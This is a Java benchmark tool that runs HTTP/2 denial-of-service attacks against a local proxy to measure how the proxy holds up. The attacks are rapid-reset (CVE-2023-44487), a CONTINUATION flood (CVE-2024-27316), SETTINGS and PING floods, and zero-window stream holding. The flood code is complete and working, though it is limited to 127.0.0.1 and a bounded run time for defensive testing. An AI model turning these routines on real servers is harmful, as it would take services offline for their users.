package io.swarmgate.bench;

import static io.swarmgate.testing.RawHttp2Connection.CONTINUATION;
import static io.swarmgate.testing.RawHttp2Connection.END_HEADERS;
import static io.swarmgate.testing.RawHttp2Connection.END_STREAM;
import static io.swarmgate.testing.RawHttp2Connection.HEADERS;
import static io.swarmgate.testing.RawHttp2Connection.PING;
import static io.swarmgate.testing.RawHttp2Connection.RST_STREAM;
import static io.swarmgate.testing.RawHttp2Connection.SETTINGS;
import static io.swarmgate.testing.RawHttp2Connection.frame;
import static io.swarmgate.testing.RawHttp2Connection.setting;

import io.swarmgate.testing.RawHttp2Connection;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Runs one HTTP/2 attack against a proxy's TLS port on 127.0.0.1 for a bounded time, for bench/load/h2-abuse.sh, which
 * measures the proxy's CPU, heap and backend connections and other clients' latency meanwhile.
 *
 * <pre>
 * java -cp bench/target/benchmarks.jar io.swarmgate.bench.H2Abuse --port 24087 --attack rapid-reset [--option value]
 *
 *   --port 24087          the proxy's TLS port on 127.0.0.1 (the only host this tool connects to)
 *   --attack NAME         rapid-reset: HEADERS then RST_STREAM, 100,000 pairs per connection (CVE-2023-44487);
 *                         continuation: a header block in 1-byte CONTINUATION frames that never ends (CVE-2024-27316);
 *                         settings, ping: SETTINGS or PING frames, 1,000,000 per connection, never reading the ACKs;
 *                         zero-window: SETTINGS_INITIAL_WINDOW_SIZE 0, then 200 streams, never giving credit
 *   --connections 2       attacking connections at once; each reconnects when the proxy ends it
 *   --seconds 10          how long the attack lasts (at most 300)
 *   --path /demo/small    the path the attack's requests name
 * </pre>
 *
 * Prints {@code RESULT attack=NAME connections=N frames=F cut_off=C} at the end: connections opened, frames written, and
 * how many connections the proxy ended before the client had written all it meant to.
 */
public final class H2Abuse {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private static final List<String> ATTACKS = List.of("rapid-reset", "continuation", "settings", "ping",
            "zero-window");

    private final int port;
    private final String attack;
    private final byte[] request;
    private final AtomicLong connections = new AtomicLong();
    private final AtomicLong frames = new AtomicLong();
    private final AtomicLong cutOff = new AtomicLong();

    private H2Abuse(int port, String attack, String path) {
        this.port = port;
        this.attack = attack;
        this.request = RawHttp2Connection.literalGet(path);
    }

    public static void main(String[] args) throws Exception {
        NamedOptions options = new NamedOptions(args, H2Abuse::usage);
        int port = options.getInt("port", 24087, 65_535);
        String attack = options.get("attack", "rapid-reset");
        if (!ATTACKS.contains(attack)) {
            usage("--attack: " + attack + " (expected one of " + ATTACKS + ")");
        }
        int parallel = options.getInt("connections", 2, 64);
        int seconds = options.getInt("seconds", 10, 300);
        String path = options.get("path", "/demo/small");
        if (!path.startsWith("/") || path.length() > 100 || path.chars().anyMatch(c -> c <= ' ' || c >= 127)) {
            usage("--path: " + path + " (expected an absolute path of printable ASCII, up to 100 characters)");
        }
        H2Abuse abuse = new H2Abuse(port, attack, path);
        long deadline = System.nanoTime() + seconds * 1_000_000_000L;
        Thread[] threads = new Thread[parallel];
        for (int i = 0; i < parallel; i++) {
            threads[i] = new Thread(() -> abuse.attackUntil(deadline), "h2-abuse-" + i);
            threads[i].start();
        }
        for (Thread thread : threads) {
            thread.join();
        }
        System.out.printf(Locale.ROOT, "RESULT attack=%s connections=%d frames=%d cut_off=%d%n", attack,
                abuse.connections.get(), abuse.frames.get(), abuse.cutOff.get());
    }

    private static void usage(String problem) {
        System.err.println(problem + "\nusage: H2Abuse --port PORT --attack rapid-reset|continuation|settings|ping|"
                + "zero-window [--connections 2] [--seconds 10] [--path /demo/small] (see the class comment)");
        System.exit(2);
    }

    private void attackUntil(long deadline) {
        while (System.nanoTime() < deadline) {
            try (RawHttp2Connection h2 = RawHttp2Connection.tls(port, 4096)) {
                connections.incrementAndGet();
                if (!attackOnce(h2, deadline)) {
                    cutOff.incrementAndGet();
                }
            } catch (Exception e) {
                cutOff.incrementAndGet();
            }
        }
    }

    /** One connection's attack; false if the proxy ended the connection first. */
    private boolean attackOnce(RawHttp2Connection h2, long deadline) {
        try {
            h2.writeRaw(PREFACE);
            h2.write(SETTINGS, 0, 0, "zero-window".equals(attack) ? setting(4, 0) : new byte[0]);
            switch (attack) {
                case "rapid-reset" -> {
                    byte[] cancel = ByteBuffer.allocate(4).putInt(8).array();
                    for (int batch = 0; batch < 100 && System.nanoTime() < deadline; batch++) {
                        ByteArrayOutputStream pairs = new ByteArrayOutputStream();
                        for (int i = 0; i < 1000; i++) {
                            int stream = 1 + 2 * (batch * 1000 + i);
                            pairs.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, request));
                            pairs.writeBytes(frame(RST_STREAM, 0, stream, cancel));
                        }
                        h2.writeRaw(pairs.toByteArray());
                        frames.addAndGet(2000);
                    }
                }
                case "continuation" -> {
                    h2.write(HEADERS, END_STREAM, 1, request);
                    flood(h2, frame(CONTINUATION, 0, 1, new byte[] {0}), 100_000, deadline);
                }
                case "settings" -> flood(h2, frame(SETTINGS, 0, 0, new byte[0]), 1_000_000, deadline);
                case "ping" -> flood(h2, frame(PING, 0, 0, new byte[8]), 1_000_000, deadline);
                case "zero-window" -> {
                    for (int i = 0; i < 200; i++) {
                        h2.write(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request);
                    }
                    frames.addAndGet(200);
                    // With no window the proxy can send no DATA: reading sees only HEADERS, resets and the close.
                    h2.startReading();
                    return !h2.awaitClose(Duration.ofNanos(Math.max(0, deadline - System.nanoTime())));
                }
                default -> throw new IllegalStateException(attack);
            }
        } catch (IOException closed) {
            return false;
        }
        return true;
    }

    private void flood(RawHttp2Connection h2, byte[] frame, int count, long deadline) throws IOException {
        byte[] batch = new byte[frame.length * 1000];
        for (int i = 0; i < 1000; i++) {
            System.arraycopy(frame, 0, batch, i * frame.length, frame.length);
        }
        for (int written = 0; written < count && System.nanoTime() < deadline; written += 1000) {
            h2.writeRaw(batch);
            frames.addAndGet(1000);
        }
    }
}
